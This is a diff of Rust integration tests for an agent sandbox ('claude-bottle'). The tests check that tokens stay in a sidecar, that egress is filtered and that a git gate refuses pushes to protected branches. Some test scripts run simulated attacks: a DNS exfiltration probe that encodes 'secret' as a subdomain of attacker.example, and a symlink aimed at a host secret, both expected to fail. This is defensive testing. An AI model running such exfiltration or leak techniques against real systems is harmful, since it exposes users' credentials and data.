@@ -73,12 +73,28 @@ fn start_prompt_round_trip() {
     let _images = super::image_lock();
     let run = format!("start-{}", std::process::id());
     let h = home("rt");
+    // A skill on the host, with a link to a host secret inside it that
+    // must arrive as a dangling link, not as the secret.
+    let skill = h.dir.path().join(".claude/skills/review");
+    std::fs::create_dir_all(&skill).unwrap();
+    std::fs::write(skill.join("SKILL.md"), "# Review skill\n").unwrap();
+    std::fs::write(h.dir.path().join("host-secret"), "HOST-ONLY-BYTES\n").unwrap();
+    std::os::unix::fs::symlink(h.dir.path().join("host-secret"), skill.join("leak")).unwrap();
+    std::fs::write(
+        h.dir
+            .path()
+            .join(format!(".claude-bottle/agents/{}.md", h.agent)),
+        "---\nbottle: probe\nskills: [review]\n---\nYou probe.\n",
+    )
+    .unwrap();
     let script = "curl -s -o /dev/null -w 'health %{http_code}\\n' http://claude-bottle.local/health; \
                   curl -s -o /dev/null -w 'denied %{http_code}\\n' http://denied.example/; \
                   nslookup c2VjcmV0.attacker.example >/dev/null 2>&1 && echo dns LEAK || echo dns refused; \
                   echo uid $(id -u); \
                   grep -c BEGIN /run/claude-bottle/ca-bundle.pem >/dev/null && echo ca ok; \
                   stat -c 'prompt %a' /run/claude-bottle/prompt.md; \
+                  cat ~/.claude/skills/review/SKILL.md; stat -c 'skill %u' ~/.claude/skills/review/SKILL.md; \
+                  cat ~/.claude/skills/review/leak 2>/dev/null || echo no leak; \
                   exit 3";
     let out = cli(&h, &run, &["start", &h.agent, "--yes", "--prompt", script])
         .output()
@@ -91,7 +107,8 @@ fn start_prompt_round_trip() {
         "the agent's exit code:\n{stdout}\n{stderr}"
     );
     assert_eq!(
-        stdout, "health 200\ndenied 403\ndns refused\nuid 1000\nca ok\nprompt 600\n",
+        stdout,
+        "health 200\ndenied 403\ndns refused\nuid 1000\nca ok\nprompt 600\n# Review skill\nskill 1000\nno leak\n",
         "{stderr}"
     );
     assert!(stderr.contains("the agent exited with code 3"), "{stderr}");
@@ -198,6 +215,36 @@ fn the_token_stays_in_the_sidecar() {
             .unwrap();
         String::from_utf8_lossy(&o.stdout).to_string()
     };
+    // From the host (or anything else on the egress side) the sidecar's
+    // proxy, gate and DNS must not answer: they would inject the token for
+    // whoever asks. They listen on the internal address only.
+    let sidecar = format!("claude-bottle-{}-sidecar", h.agent);
+    let egress_ip = Command::new("docker")
+        .args([
+            "inspect",
+            "-f",
+            &format!(
+                "{{{{(index .NetworkSettings.Networks \"claude-bottle-{}-egress\").IPAddress}}}}",
+                h.agent
+            ),
+            &sidecar,
+        ])
+        .output()
+        .unwrap();
+    let egress_ip = String::from_utf8_lossy(&egress_ip.stdout)
+        .trim()
+        .to_string();
+    let egress_ip: std::net::IpAddr = egress_ip.parse().expect("the sidecar's egress address");
+    let answering: Vec<u16> = [3128, 8418, 53]
+        .into_iter()
+        .filter(|port| {
+            std::net::TcpStream::connect_timeout(
+                &(egress_ip, *port).into(),
+                std::time::Duration::from_secs(2),
+            )
+            .is_ok()
+        })
+        .collect();
     let cleaned = cli(&h, &run, &["cleanup", "-y", "--all"]).output().unwrap();
     assert!(
         cleaned.status.success(),
@@ -207,6 +254,11 @@ fn the_token_stays_in_the_sidecar() {
     assert_eq!(leftovers(&run), Vec::<String>::new());
 
     assert!(out.status.success(), "{stdout}\n{stderr}");
+    assert_eq!(
+        answering,
+        Vec::<u16>::new(),
+        "the sidecar answers on its egress side"
+    );
     // The attack ran: it saw the placeholder the agent is given instead.
     assert!(
         stdout.contains("CLAUDE_CODE_OAUTH_TOKEN=cred-proxy-placeholder"),
@@ -222,4 +274,170 @@ fn the_token_stays_in_the_sidecar() {
     );
     assert!(!inspected.contains(token), "the token is in docker inspect");
     assert!(!stderr.contains(token), "the CLI printed the token");
+}
+
+/// The full round trip of docker.md with the world of testing.md: the
+/// agent (holding only the placeholder) calls the model API through the
+/// sidecar's reverse proxy and the fake model API receives the real token;
+/// an allowed host is reached over intercepted HTTPS (the bottle's CA
+/// trusted in the agent, the world's CA trusted by the sidecar as
+/// `upstream_ca`); a denied host never sees a byte.
+#[test]
+fn start_reaches_the_world_and_the_model_api() {
+    if !super::images_ready("start_reaches_the_world_and_the_model_api") {
+        return;
+    }
+    let _images = super::image_lock();
+    let world = super::world::World::start();
+    let run = format!("world-{}", std::process::id());
+    let h = home("wld");
+    let token = "sk-ant-oat01-REAL-TOKEN-ONLY-THE-SIDECAR-HAS-42";
+    std::fs::write(
+        h.dir.path().join(".claude-bottle/bottles/probe.md"),
+        format!(
+            "---\ntokens:\n  - kind: anthropic\n    token_ref: WORLD_TOKEN\negress:\n  allow:\n    - host: allowed.test\n  resolve:\n{}  upstream_ca: {}\n---\n",
+            world.resolve_yaml("    "),
+            world.ca().display()
+        ),
+    )
+    .unwrap();
+    let script = "echo \"model: $(claude-standin-model hello)\"; \
+                  echo \"allowed: $(curl -s https://allowed.test/hello)\"; \
+                  curl -s -o /dev/null -w 'denied %{http_connect}\\n' https://git.world.test/nope; \
+                  echo \"agent key: $CLAUDE_CODE_OAUTH_TOKEN\"";
+    let out = cli(&h, &run, &["start", &h.agent, "--yes", "--prompt", script])
+        .env("WORLD_TOKEN", token)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stdout}\n{stderr}");
+    assert!(
+        stdout.contains("model: event: message_start"),
+        "{stdout}\n{stderr}"
+    );
+    assert!(stdout.contains("fake model reply"), "{stdout}");
+    assert!(
+        stdout.contains("allowed: world ok allowed.test /hello"),
+        "{stdout}\n{stderr}"
+    );
+    assert!(stdout.contains("denied 403"), "{stdout}");
+    assert!(
+        stdout.contains("agent key: cred-proxy-placeholder"),
+        "{stdout}"
+    );
+    assert!(
+        !stdout.contains(token),
+        "the agent saw the token:\n{stdout}"
+    );
+
+    let got = world.requests();
+    let model: Vec<_> = got
+        .iter()
+        .filter(|r| r["path"].as_str().unwrap().starts_with("/v1/messages"))
+        .collect();
+    assert_eq!(model.len(), 1, "one model call: {got:?}");
+    let m = model[0];
+    assert_eq!(m["path"], "/v1/messages?beta=true", "query kept");
+    assert_eq!(m["tls"], true);
+    assert_eq!(m["host"], "api.anthropic.com");
+    assert_eq!(
+        m["authorization"],
+        format!("Bearer {token}"),
+        "the model API got the real token, not the placeholder"
+    );
+    assert!(
+        m["anthropic_beta"]
+            .as_str()
+            .unwrap()
+            .contains("oauth-2025-04-20"),
+        "{m}"
+    );
+    assert!(
+        got.iter()
+            .any(|r| r["host"] == "allowed.test" && r["path"] == "/hello" && r["tls"] == true),
+        "{got:?}"
+    );
+    assert!(
+        !got.iter().any(|r| r["path"] == "/nope"),
+        "a denied request reached the world: {got:?}"
+    );
+    assert_eq!(leftovers(&run), Vec::<String>::new());
+}
+
+/// A declared repo is cloned through the gate at launch; a push to an
+/// allowed branch reaches the upstream, a push to a protected one is
+/// refused by the gate and never arrives; the upstream got the repo token,
+/// the agent never saw it.
+#[test]
+fn clone_and_push_through_the_gate() {
+    if !super::images_ready("clone_and_push_through_the_gate") {
+        return;
+    }
+    let _images = super::image_lock();
+    let world = super::world::World::start();
+    let bare = world.bare_repo("app");
+    let run = format!("gate-{}", std::process::id());
+    let h = home("git");
+    let token = "ghp_GATEONLYTOKEN0123456789abcdefghijklmn";
+    std::fs::write(
+        h.dir.path().join(".claude-bottle/bottles/probe.md"),
+        format!(
+            "---\negress:\n  allow:\n    - host: allowed.test\n  resolve:\n{}  upstream_ca: {}\n\
+             git:\n  user: {{name: Probe Bot, email: probe@example.com}}\n  repos:\n    app:\n      \
+             url: https://git.world.test/git/app.git\n      token_ref: REPO_TOKEN\n      push: [\"agent/*\"]\n---\n",
+            world.resolve_yaml("    "),
+            world.ca().display()
+        ),
+    )
+    .unwrap();
+    let script = "set -e; cd /workspace/app; cat README.md; \
+                  git checkout -qb agent/work; echo change > change.txt; git add change.txt; \
+                  git commit -qm 'agent work'; git push -q origin agent/work && echo pushed-branch; \
+                  git push -q origin HEAD:main 2>/dev/null && echo pushed-main || echo main-refused; \
+                  git config --get remote.origin.url; env | grep -c ghp_ || true";
+    let out = cli(&h, &run, &["start", &h.agent, "--yes", "--prompt", script])
+        .env("REPO_TOKEN", token)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stdout}\n{stderr}");
+    assert_eq!(
+        stdout,
+        "seeded by the fake world\npushed-branch\nmain-refused\nhttps://git.world.test/git/app.git\n0\n",
+        "{stderr}"
+    );
+    let git = |args: &[&str]| {
+        let o = Command::new("git")
+            .args(args)
+            .current_dir(&bare)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&o.stdout).trim().to_string()
+    };
+    assert_eq!(
+        git(&["log", "-1", "--format=%s", "agent/work"]),
+        "agent work"
+    );
+    assert_eq!(
+        git(&["log", "-1", "--format=%s", "main"]),
+        "seed",
+        "main untouched"
+    );
+    let got = world.requests();
+    let pushes: Vec<_> = got
+        .iter()
+        .filter(|r| r["path"].as_str().unwrap().ends_with("/git-receive-pack"))
+        .collect();
+    assert_eq!(pushes.len(), 1, "only the allowed push arrived: {got:?}");
+    let basic = got
+        .iter()
+        .filter_map(|r| r["authorization"].as_str())
+        .next()
+        .unwrap_or_default()
+        .to_string();
+    assert!(basic.starts_with("Basic "), "{got:?}");
+    assert!(!stdout.contains(token));
+    assert_eq!(leftovers(&run), Vec::<String>::new());
 }
